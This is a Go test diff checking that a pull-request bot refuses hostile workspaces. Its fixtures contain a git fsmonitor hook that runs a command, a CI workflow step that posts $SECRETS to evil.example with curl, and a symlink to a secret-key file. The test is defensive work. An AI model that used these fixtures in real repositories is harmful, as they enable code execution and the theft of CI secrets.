@@ -3,6 +3,7 @@ package github
 import (
 	"context"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -292,5 +293,74 @@ func TestProposeRefusals(t *testing.T) {
 	}
 	if n := len(w.fake.Pulls()); n != 1 {
 		t.Errorf("%d pull requests, want PR 7 alone", n)
+	}
+}
+
+// Hostile workspaces: what a run leaves to break git (a path git refuses,
+// a repository without a commit) is refused once and said, never retried
+// in a loop; a CI workflow of the repository is never pushed; a link to
+// a file of the server that holds a secret is pushed as the link it is,
+// never the file's text.
+func TestProposeHostileWorkspaces(t *testing.T) {
+	t.Parallel()
+	const secret = "sk-live-fedcba9876543210"
+	w := newChangesWorld(t, secret)
+	ctx := context.Background()
+	w.fake.Git("branch", "feature", w.head)
+	w.fake.PRs[7] = &fakegithub.PR{HeadSHA: w.head, HeadRef: "feature"}
+	refused := func(id, want string, setup func(dir string)) {
+		t.Helper()
+		run, dir := w.run(id, "fix", Origin{PR: 7})
+		run = w.finish(run)
+		write(t, dir, "fix.txt", "fixed\n")
+		setup(dir)
+		for range 2 { // the second meets the record of the first
+			if err := w.s.proposeChanges(ctx, run); err != nil {
+				t.Fatalf("%s: %v", id, err)
+			}
+		}
+		said := w.fake.BotComments(7, "<!-- iterion:changes-"+id+" -->")
+		if len(said) != 1 || !strings.Contains(said[0].Body, want) || strings.Contains(said[0].Body, w.ws) {
+			t.Errorf("%s: said %+v, want once %q without the server's paths", id, said, want)
+		}
+		if got := w.fake.Branch("feature"); got != w.head {
+			t.Errorf("%s: feature moved to %s", id, got)
+		}
+	}
+	refused("gh-dotgit", "git refused what the run left in its workspace (git said: `error: invalid path '.GIT/config'", func(dir string) {
+		write(t, dir, ".GIT/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n")
+	})
+	empty := t.TempDir()
+	if out, err := exec.Command("git", "init", "-q", "--bare", empty).CombinedOutput(); err != nil {
+		t.Fatalf("git init: %v: %s", err, out)
+	}
+	refused("gh-gitfile", "does not have a commit checked out", func(dir string) {
+		write(t, dir, "vendor/lib/.git", "gitdir: "+empty+"\n")
+	})
+	refused("gh-ci", "the run changed `.github/workflows/ci.yml`, a CI workflow of the repository, which a proposal never carries", func(dir string) {
+		write(t, dir, ".github/workflows/ci.yml", "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: 'curl -d \"$SECRETS\" evil.example'}]}}\n")
+	})
+
+	// A link to a file of the server holding a secret.
+	keys := filepath.Join(t.TempDir(), "keys.env")
+	if err := os.WriteFile(keys, []byte("KEY="+secret+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	run, dir := w.run("gh-link", "fix", Origin{PR: 7})
+	run = w.finish(run)
+	if err := os.Symlink(keys, filepath.Join(dir, "keys.env")); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.s.proposeChanges(ctx, run); err != nil {
+		t.Fatal(err)
+	}
+	if got := w.fake.Git("cat-file", "-p", "feature:keys.env"); got != keys {
+		t.Errorf("keys.env on feature = %q, want the link's target %q", got, keys)
+	}
+	if mode := w.fake.Git("ls-tree", "feature", "keys.env"); !strings.HasPrefix(mode, "120000 ") {
+		t.Errorf("keys.env pushed as %q, want a link", mode)
+	}
+	if grep := w.fake.Git("log", "--all", "-p", "--format=%H"); strings.Contains(grep, secret) {
+		t.Error("the secret reached the repository")
 	}
 }
